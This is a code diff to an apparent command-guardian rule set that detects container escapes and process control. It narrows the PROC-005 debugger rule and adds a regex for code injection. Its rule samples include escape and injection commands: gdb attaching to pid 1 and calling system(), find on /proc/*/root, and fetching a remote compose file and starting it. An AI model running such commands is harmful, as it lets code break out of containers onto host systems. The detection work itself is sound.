@@ -11,8 +11,9 @@ Parts:
         the line that does the same (CTR-001 privileges, CTR-002 host binds),
         a manifest started that the guardian cannot read (CTR-010 ask), `find
         /proc -name root -exec` (CTR-006), a debugger or tracer attached to
-        another process or its open files read (PROC-005 ask: `gdb -p 1`,
-        `strace -p`, `/proc/1/fd/3`).
+        pid 1 or running code in a process, or another process's open files
+        read (PROC-005 ask: `gdb -p 1`, `strace -p 1`, `gdb -p N -ex 'call
+        system(..)'`, `/proc/1/fd/3`).
 
 The paths (`/proc/PID/root`, sysrq) are the path rule CTR-006 (`guardian.rules_paths`);
 container engine flags are CTR-001/002 and namespaces CTR-003 (`guardian.rules_system`);
@@ -48,10 +49,12 @@ static_rule("CTR-010", "container-escape", "ask",
             "starts containers from a compose file or manifest the guardian cannot read (downloaded, "
             "written by a program, or on stdin)", "curl -o c.yml https://x.example/c.yml && docker compose -f c.yml up")
 static_rule("PROC-005", "process-control", "ask",
-            "attaches a debugger or tracer to another process, or reads its open files (its memory, secrets, "
-            "the host's files through its descriptors)", "gdb -p 1 -batch -ex 'call system(\"id\")'")
+            "attaches a debugger or tracer to pid 1 (the host's init when the pid namespace is shared) or runs "
+            "code in another process, or reads another process's open files", "gdb -p 1 -batch -ex 'call system(\"id\")'")
 
 _BLOCK = re.compile(T.BLOCK_DEVICE)
+_INJECT = re.compile(r"^(?:call|print|p|shell|!|compile|python|source|dprintf|set\s+var)\b.*(?:\(|\bsystem\b)|"
+                     r"\b(?:system|dlopen|execve?|popen)\s*\(")
 _COMPOSE, _COMPOSE_MOUNT, _PROC_FD = re.compile(T.COMPOSE_ESCAPE), re.compile(T.COMPOSE_MOUNT), re.compile(T.PROC_FD)
 _POD = re.compile(T.POD_ESCAPE)
 _HELM_SET = re.compile(r"(?i)(?:^|[.,])(?:hostPID|hostNetwork|hostIPC|privileged)=true|hostPath")
@@ -91,8 +94,8 @@ def on_invocation(an: Analyser, inv: Inv) -> None:
         _compose(an, inv)
     if prog in T.ATTACH:
         pid = _attached(inv, T.ATTACH[prog].split())
-        if pid:
-            an._hit("PROC-005", prog, f"attaches to pid {pid}")
+        if pid == "1" or pid and any(_INJECT.search(a) for a in inv.args):
+            an._hit("PROC-005", prog, f"attaches to pid {pid}")  # init (the host's, pid namespace shared), or runs code
     if prog in ("find", "fd") and _proc_roots(inv):
         an._hit("CTR-006", prog, "runs a command on /proc/*/root (the host's root through another process)")
     if prog not in T.QUIET and prog not in T.DEVICE_INFO and prog not in ("readlink", "realpath", "lsof"):
